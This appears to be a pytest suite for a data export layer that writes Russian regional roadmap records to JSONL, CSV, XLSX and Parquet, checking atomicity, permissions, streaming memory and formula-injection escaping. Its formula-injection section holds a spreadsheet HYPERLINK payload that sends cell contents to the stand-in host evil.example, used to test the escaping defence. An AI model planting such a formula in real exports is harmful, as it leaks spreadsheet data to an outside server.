"""The export layer: every format from a streamed source, atomic files, safe cells, flat memory."""
from __future__ import annotations

import csv
import json
import os
import stat
import tracemalloc
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest

from ingest.schema import DOCUMENT_COLUMNS, EXECUTOR_COLUMNS, ROW_COLUMNS
from ingest.writers import (EXPORT_NAMES, ExportError, JsonlFolderSource, MemorySource, atomic_path, read_jsonl,
                            write_exports, write_tables)


def document(doc_id: str = "d1", **fields) -> dict:
    record = dict.fromkeys(DOCUMENT_COLUMNS)
    record.update(doc_id=doc_id, source_path=f"{doc_id}.txt", status="ok", region="Ульяновская область",
                  doc_date="2021-02-24", rows=1, pages=3, seconds=0.5, abbreviations={}, warnings=[])
    record.update(fields)
    return record


def row(doc_id: str = "d1", index: int = 0, **fields) -> dict:
    record = dict.fromkeys(ROW_COLUMNS)
    record.update(doc_id=doc_id, row_index=index, page=1, section_path=[], action=f"Мероприятие {index}",
                  deadline_intervals=[], deadline_kind="unparsed", executors=[], urls=[], warnings=[])
    record.update(fields)
    return record


def executor(doc_id: str = "d1", index: int = 0, **fields) -> dict:
    record = dict.fromkeys(EXECUTOR_COLUMNS)
    record.update(doc_id=doc_id, row_index=index, party_index=0, canonical_id="x", name="Отдел", kind="organization")
    record.update(fields)
    return record


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_every_export_is_written_and_reads_back(tmp_path):
    source = MemorySource([document()], [row(index=0), row(index=1)], [executor()])
    assert write_exports(tmp_path, source) == []
    assert {p.name for p in tmp_path.iterdir()} == EXPORT_NAMES
    assert read_jsonl(tmp_path / "rows.jsonl") == list(source.rows())
    assert pq.read_table(tmp_path / "rows.parquet").column_names == ROW_COLUMNS
    with open(tmp_path / "rows.csv", encoding="utf-8-sig", newline="") as f:
        assert next(csv.reader(f)) == ROW_COLUMNS
    assert (tmp_path / "rows.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_only_the_chosen_formats_are_written(tmp_path):
    write_exports(tmp_path, MemorySource([document()], [row()], []), "csv,parquet")
    assert {p.suffix for p in tmp_path.iterdir()} == {".csv", ".parquet"}


def test_an_unknown_format_is_refused_with_the_choices(tmp_path):
    with pytest.raises(ExportError, match="unknown export format pdf; choose from jsonl, csv, xlsx, parquet"):
        write_exports(tmp_path, MemorySource(), ["csv", "pdf"])
    assert not list(tmp_path.iterdir())


def test_csv_keeps_integers_integers_and_none_empty(tmp_path):
    write_exports(tmp_path, MemorySource([document(plan_year=2022, seconds=-1.25)], [row(page=3)], []), ["csv"])
    (r,) = read_csv(tmp_path / "rows.csv")
    assert r["page"] == "3" and r["row_index"] == "0" and r["item_number"] == ""
    assert json.loads(r["section_path"]) == [] and json.loads(r["executors"]) == []
    (d,) = read_csv(tmp_path / "documents.csv")
    assert d["plan_year"] == "2022" and d["pages"] == "3"
    assert d["seconds"] == "-1.25", "a negative number is a number, not a formula"


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
def test_files_get_the_permissions_of_the_umask(tmp_path, umask, mode):
    old = os.umask(umask)
    try:
        write_exports(tmp_path, MemorySource([document()], [row()], [executor()]))
    finally:
        os.umask(old)
    for path in tmp_path.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == mode, path.name


class BrokenSource(MemorySource):
    def rows(self):
        yield row(index=0)
        raise RuntimeError("the catalogue went away")


@pytest.mark.parametrize("fmt, name", [("jsonl", "rows.jsonl"), ("csv", "rows.csv"), ("parquet", "rows.parquet"),
                                       ("xlsx", "roadmap.xlsx")])
def test_a_failed_export_keeps_the_old_file_and_leaves_no_part_file(tmp_path, fmt, name):
    write_exports(tmp_path, MemorySource([document()], [row(index=0), row(index=1)], []), [fmt])
    before = (tmp_path / name).read_bytes()
    with pytest.raises(RuntimeError):
        write_exports(tmp_path, BrokenSource([document()], [], []), [fmt])
    assert (tmp_path / name).read_bytes() == before
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def _sheets(path: Path) -> dict[str, bytes]:
    import zipfile
    with zipfile.ZipFile(path) as book:
        return {n: book.read(n) for n in book.namelist() if n != "docProps/core.xml"}  # core.xml: the time


class BrokenInChild(MemorySource):
    """Fails only in the process that writes the workbook beside this one."""
    parent = os.getpid()

    def rows(self):
        if os.getpid() != self.parent:
            raise RuntimeError("the catalogue went away")
        return super().rows()


def test_the_workbook_written_beside_the_other_formats_is_the_same(tmp_path):
    source = MemorySource([document()], [row(index=0), row(index=1)], [executor()])
    write_exports(tmp_path / "serial", source)
    assert write_exports(tmp_path / "parallel", source, parallel=True) == []
    for name in EXPORT_NAMES:
        a, b = tmp_path / "serial" / name, tmp_path / "parallel" / name
        if name.endswith(".xlsx"):
            assert _sheets(a) == _sheets(b)
        else:
            assert a.read_bytes() == b.read_bytes(), name
    assert not [p for p in (tmp_path / "parallel").iterdir() if p.name.endswith(".part")]


def test_a_workbook_that_fails_beside_the_other_formats_keeps_the_old_one(tmp_path):
    write_exports(tmp_path, MemorySource([document()], [row(index=0), row(index=1)], []), ["xlsx", "csv"])
    before = _sheets(tmp_path / "roadmap.xlsx")
    with pytest.raises((ExportError, RuntimeError)):
        write_exports(tmp_path, BrokenSource([document()], [], []), ["xlsx", "csv"], parallel=True)
    with pytest.raises(ExportError, match="roadmap.xlsx could not be written .*catalogue went away"):
        write_exports(tmp_path, BrokenInChild([document()], [row()], []), ["xlsx", "csv"], parallel=True)
    assert _sheets(tmp_path / "roadmap.xlsx") == before
    assert (tmp_path / "rows.csv").read_text(encoding="utf-8").count("\n") == 2  # this process's formats were written
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_atomic_path_removes_the_temporary_file_on_failure(tmp_path):
    target = tmp_path / "x.txt"
    with pytest.raises(ValueError):
        with atomic_path(target) as tmp:
            tmp.write_text("half")
            raise ValueError
    assert list(tmp_path.iterdir()) == []


def test_unchanged_exports_are_left_untouched_and_changed_ones_replaced(tmp_path):
    source = MemorySource([document()], [row(index=0), row(index=1)], [executor()])
    write_exports(tmp_path, source)
    for path in tmp_path.iterdir():
        os.utime(path, ns=(1_000_000_000, 1_000_000_000))
    write_exports(tmp_path, source)
    assert {p.name: p.stat().st_mtime_ns for p in tmp_path.iterdir()} == dict.fromkeys(EXPORT_NAMES, 1_000_000_000)
    write_exports(tmp_path, MemorySource([document()], [row(index=0)], [executor()]))
    changed = {p.name for p in tmp_path.iterdir() if p.stat().st_mtime_ns != 1_000_000_000}
    assert changed == {"rows.jsonl", "rows.csv", "rows.parquet", "roadmap.xlsx"}


def test_a_folder_source_streams_the_folder_jsonl_and_does_not_rewrite_it(tmp_path):
    write_exports(tmp_path, MemorySource([document()], [row(index=0), row(index=1)], [executor()]), ["jsonl"])
    os.utime(tmp_path / "rows.jsonl", ns=(1_000_000_000, 1_000_000_000))
    source = JsonlFolderSource(tmp_path)
    assert [r["row_index"] for r in source.rows()] == [0, 1]
    assert [r["row_index"] for r in source.rows()] == [0, 1], "a new iterator on every call"
    write_exports(tmp_path, source)
    assert (tmp_path / "rows.jsonl").stat().st_mtime_ns == 1_000_000_000
    assert len(read_csv(tmp_path / "rows.csv")) == 2


def test_a_folder_source_names_a_missing_or_broken_file(tmp_path):
    with pytest.raises(ExportError, match=r"documents\.jsonl is missing; run `roadmap-ingest run` into"):
        JsonlFolderSource(tmp_path).documents()
    (tmp_path / "rows.jsonl").write_text('{"doc_id": "d1"}\n{broken\n', encoding="utf-8")
    with pytest.raises(ExportError, match=r"rows\.jsonl line 2 is not JSON"):
        list(JsonlFolderSource(tmp_path).rows())


def test_write_tables_still_writes_the_derived_outputs(tmp_path):
    warnings = write_tables(tmp_path, [document()], [row()], [executor()])
    assert warnings == []
    assert {p.name for p in tmp_path.iterdir()} == EXPORT_NAMES - {"documents.jsonl", "rows.jsonl"}


# ------------------------------------------------------------------ formula injection

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"


def hostile_source(trigger: str) -> MemorySource:
    text = trigger + PAYLOAD
    party = {"name": text, "kind": "organization", "position": None, "person": None, "text": text}
    rows = [row(index=0, action=text, result=text, executors_text=text, executors=[party], item_number=text,
                deadline_text="-", warnings=[text])]
    return MemorySource([document(title=text, doc_number=text)], rows, [executor(name=text, text=text)])


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_text_cells_that_a_spreadsheet_would_run_get_a_quote(tmp_path, trigger):
    write_exports(tmp_path, hostile_source(trigger), ["csv"])
    safe = "'" + trigger + PAYLOAD
    (r,) = read_csv(tmp_path / "rows.csv")
    for field in ("action", "result", "executors_text", "item_number"):
        assert r[field] == safe, field
    assert r["deadline_text"] == "'-"
    assert json.loads(r["executors"])[0]["name"] == trigger + PAYLOAD, "JSON starts with [ and keeps the raw text"
    assert read_csv(tmp_path / "documents.csv")[0]["title"] == safe
    assert read_csv(tmp_path / "executors.csv")[0]["name"] == safe
    for path in tmp_path.glob("*.csv"):
        for record in read_csv(path):
            assert not any(v.startswith(tuple(TRIGGERS)) for v in record.values()), path.name


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_jsonl_and_parquet_keep_the_raw_text(tmp_path, trigger):
    write_exports(tmp_path, hostile_source(trigger), ["jsonl", "parquet"])
    raw = trigger + PAYLOAD
    (r,) = read_jsonl(tmp_path / "rows.jsonl")
    assert r["action"] == r["result"] == r["executors"][0]["name"] == raw
    (p,) = pq.read_table(tmp_path / "rows.parquet").to_pylist()
    assert p["action"] == p["result"] == p["executors_text"] == p["executors"][0]["name"] == raw


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_the_workbook_holds_no_formula(tmp_path, trigger):
    write_exports(tmp_path, hostile_source(trigger), ["xlsx"])
    wb = openpyxl.load_workbook(tmp_path / "roadmap.xlsx")
    seen = 0
    for ws in wb.worksheets:
        for line in ws.iter_rows(min_row=2):
            for cell in line:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and PAYLOAD in cell.value:
                    assert cell.data_type == "s" and not cell.value.startswith(tuple(TRIGGERS)), cell.value
                    seen += cell.value == "'" + trigger.replace("\r", "\n") + PAYLOAD  # Excel's line break
    assert seen >= 9  # action, result, executors_text, item_number, warnings, title, number, name, text ...


def test_numbers_stay_numbers_in_the_workbook(tmp_path):
    write_exports(tmp_path, MemorySource([document(seconds=-2.5, plan_year=2022)], [row(page=4)], []), ["xlsx"])
    ws = openpyxl.load_workbook(tmp_path / "roadmap.xlsx")["documents"]
    header = [c.value for c in ws[1]]
    assert ws.cell(2, header.index("seconds") + 1).value == -2.5
    assert ws.cell(2, header.index("plan_year") + 1).value == 2022


# ------------------------------------------------------------------ memory

class GeneratedSource:
    """Rows made on the fly: nothing holds them all."""

    def __init__(self, n: int):
        self.n = n

    def documents(self):
        return iter([document()])

    def rows(self):
        party = {"name": "Иванов И.И.", "kind": "person", "position": "директор", "person": None, "text": "Иванов"}
        return (row(index=i, action=f"Мероприятие номер {i} по плану", deadline_start="2022-03-01",
                    deadline_end="2022-03-31", urls=[f"https://example.org/{i}"], executors=[party])
                for i in range(self.n))

    def executors(self):
        return (executor(index=i) for i in range(self.n // 4))


def peak_bytes(out: Path, n: int, formats: list[str]) -> int:
    tracemalloc.start()
    try:
        write_exports(out, GeneratedSource(n), formats)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_jsonl_csv_and_parquet_stream_a_large_source_in_flat_memory(tmp_path):
    write_exports(tmp_path / "warm", GeneratedSource(10), ["jsonl", "csv", "parquet"])  # imports, first calls
    n = 30_000  # held in a list these records alone take some 30 MB
    peak = peak_bytes(tmp_path / "big", n, ["jsonl", "csv", "parquet"])
    assert peak < 8_000_000, f"{peak / 1e6:.1f} MB"
    assert pq.read_metadata(tmp_path / "big" / "rows.parquet").num_rows == n
    assert sum(1 for _ in open(tmp_path / "big" / "rows.jsonl", encoding="utf-8")) == n


def test_the_workbook_streams_in_flat_memory(tmp_path):
    write_exports(tmp_path / "warm", GeneratedSource(10), ["xlsx"])
    small = peak_bytes(tmp_path / "small", 1_000, ["xlsx"])
    large = peak_bytes(tmp_path / "large", 4_000, ["xlsx"])
    assert large < small * 1.5 + 1_000_000, (small, large)
    sheet = openpyxl.load_workbook(tmp_path / "large" / "roadmap.xlsx", read_only=True)["rows"]
    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 4_001


def test_the_temporary_files_of_a_killed_export_are_removed_by_the_next(tmp_path):
    """A run killed while exporting leaves ``.rows.jsonl.xxxx.part`` beside the exports; the next
    export removes them, and leaves files of other names alone."""
    stale = [tmp_path / ".rows.jsonl.g45uo3nk.part", tmp_path / ".roadmap.xlsx.abc123.part"]
    for path in stale:
        path.write_text("half written", encoding="utf-8")
    other = tmp_path / ".notes.txt.part"
    other.write_text("not ours", encoding="utf-8")
    write_tables(tmp_path, [document()], [row()], [executor()])
    assert not any(path.exists() for path in stale)
    assert other.exists()
    assert not list(tmp_path.glob(".*.part"))[1:]  # only the foreign one is left
